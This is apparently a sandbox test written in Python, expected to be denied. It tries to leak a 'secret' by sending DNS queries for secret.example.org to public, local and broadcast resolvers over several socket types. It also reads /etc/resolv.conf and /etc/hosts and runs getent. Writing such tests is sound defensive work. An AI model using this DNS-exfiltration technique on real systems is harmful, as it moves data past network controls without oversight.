"""Asks name servers for a name that would carry a secret away, by datagram, by stream, by tool.

outcome: denied
shows: sent: []
"""
# %% last
import socket
import subprocess

question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
question += b"\x06secret\x07example\x03org\x00\x00\x01\x00\x01"
sent = []
for family, host in [
    (socket.AF_INET, "8.8.8.8"),
    (socket.AF_INET, "127.0.0.53"),
    (socket.AF_INET, "255.255.255.255"),
    (socket.AF_INET6, "2001:4860:4860::8888"),
    (socket.AF_INET6, "::1"),
]:
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.SOCK_RAW):
        try:
            with socket.socket(family, kind) as connection:
                connection.settimeout(0.5)
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                connection.connect((host, 53))
                sent.append((host, kind, connection.send(question)))
        except OSError:
            pass
for name in ("/etc/resolv.conf", "/etc/hosts"):
    try:
        sent.append(open(name).read())
    except OSError:
        pass
try:
    done = subprocess.run(["getent", "ahosts", "secret.example.org"], capture_output=True)
    sent += [done.stdout] if done.stdout else []
except OSError:
    pass
print("sent:", sent)
